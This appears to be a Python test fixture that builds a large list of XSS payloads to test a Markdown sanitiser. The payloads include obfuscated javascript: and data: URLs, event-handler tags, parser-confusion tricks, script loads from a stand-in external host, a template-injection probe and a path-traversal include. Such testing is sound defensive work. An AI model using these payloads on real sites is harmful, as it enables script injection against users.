"""Attacks on the check and the sanitiser, generated from a few tables."""

import re
from itertools import product

# Each runs `hurt()` in a browser, if it runs at all.
SCHEMES = [
    "javascript:hurt()",
    "JaVaScRiPt:hurt()",
    "java\tscript:hurt()",
    "java\nscript:hurt()",
    " javascript:hurt()",
    "javascript&colon;hurt()",
    "&#106;avascript:hurt()",
    "&#x6A;avascript:hurt()",
    "javascript&#58;hurt()",
    "\x01javascript:hurt()",
    "vbscript:hurt()",
    "data:text/html,<script>top.hurt()</script>",
    "data:text/html;base64,PHNjcmlwdD50b3AuaHVydCgpPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg onload=top.hurt()>",
    "view-source:javascript:hurt()",
    "//elders.example/x.js",
    "javascript:hurt()//https://ok.example/",
    "blob:hurt()",
    "feed:javascript:hurt()",
    "jar:javascript:hurt()",
]
LINKS = [
    "[klik]({})",
    "[klik](<{}>)",
    "[a [b]]({})",
    '[klik]({} "titel")',
    "[klik][x]\n\n[x]: {}",
    "[klik]\n\n[klik]: {}",
    "![beeld]({})",
    "<{}>",
    '<a href="{}">klik</a>',
    "<a href={}>klik",
]
EVENTS = [
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "ONPOINTERENTER",
]
TAGS = [
    "<img src=x {}=hurt()>",
    "<svg {}=hurt()>",
    "<details open {}=hurt()>x</details>",
    "<input autofocus {}=hurt()>",
    "<video src=x {}=hurt()>",
    "<p {}=hurt()>tekst</p>",
    "<body {}=hurt()>",
    "<img/src=x/{}=hurt()>",
    '<img src="x`" {}=hurt()>',
    "<a href=# {}=hurt()>x</a>",
]
ATTRIBUTES = [
    "tekst {{: {}=hurt() }}",
    "# kop {{ {}=hurt() }}",
    "[link](https://ok.example){{: {}=hurt() }}",
    "*nadruk*{{ {}='hurt()' }}",
]
WHOLE = [
    "<script>hurt()</script>",
    "<SCRIPT SRC=//elders.example/x.js></SCRIPT>",
    "<scr<script>ipt>hurt()</scr</script>ipt>",
    "<script\n>hurt()</script\n>",
    "<iframe srcdoc='<script>parent.hurt()</script>'></iframe>",
    "<iframe src=javascript:parent.hurt()></iframe>",
    "<object data=javascript:hurt()></object>",
    "<embed src=javascript:hurt()>",
    "<form action=javascript:hurt()><button>x</button></form>",
    "<button formaction=javascript:hurt()>x</button>",
    "<meta http-equiv=refresh content='0;url=javascript:hurt()'>",
    "<base href=javascript:hurt()//>",
    "<link rel=stylesheet href=//elders.example/x.css>",
    "<style>@import '//elders.example/x.css'; body{display:none}</style>",
    "<p style='background:url(javascript:hurt())'>x</p>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hurt()></style></mglyph></table></math>",
    "<svg><script>hurt()</script></svg>",
    "<svg><a xlink:href=javascript:hurt()><text>x</text></a></svg>",
    "<svg><animate onbegin=hurt() attributeName=x></svg>",
    "<noscript><p title='</noscript><img src=x onerror=hurt()>'>",
    "<template><img src=x onerror=hurt()></template>",
    "<textarea></textarea><img src=x onerror=hurt()>",
    "<title></title><img src=x onerror=hurt()>",
    "<!--><img src=x onerror=hurt()>-->",
    "<![CDATA[><img src=x onerror=hurt()>]]>",
    "<?xml version='1.0'?><img src=x onerror=hurt()>",
    "</article></main><script>hurt()</script>",
    "`</code><img src=x onerror=hurt()>`",
    "```html\n</code></pre><img src=x onerror=hurt()>\n```",
    "``` {onclick=hurt()}\ncode\n```",
    "| a |\n|---|\n| <img src=x onerror=hurt()> |",
    "[^1]\n\n[^1]: <img src=x onerror=hurt()>",
    "term\n: <img src=x onerror=hurt()>",
    '!!! note "<img src=x onerror=hurt()>"\n    tekst',
    "<div markdown=1><img src=x onerror=hurt()></div>",
    "<div markdown='1' onclick='hurt()'>*x*</div>",
    "<p id=__palette>x</p>",
    "<a id=__search name=__toc>x</a>",
    "{{ lipsum.__globals__ }}",
    "{% include 'main.html' %}",
    "--8<-- '../../mkdocs.yml'",
]

PAYLOADS: tuple[str, ...] = (
    *(link.format(scheme) for link, scheme in product(LINKS, SCHEMES)),
    *(tag.format(event) for tag, event in product(TAGS, EVENTS)),
    *(form.format(event) for form, event in product(ATTRIBUTES, EVENTS)),
    *WHOLE,
)

HOSTILE = "@stichting [x](https://kwaad.example) <img src=x> ``` | #1 www.kwaad.example"
"""What a stranger may write in an issue, or a build of theirs in its report."""
ACTIVE = re.compile(r"@\w|#\d|://kwaad|www\.|(?<!\\)[<\[]\w")
"""What GitHub would turn into a mention, a link, an element or a reference."""
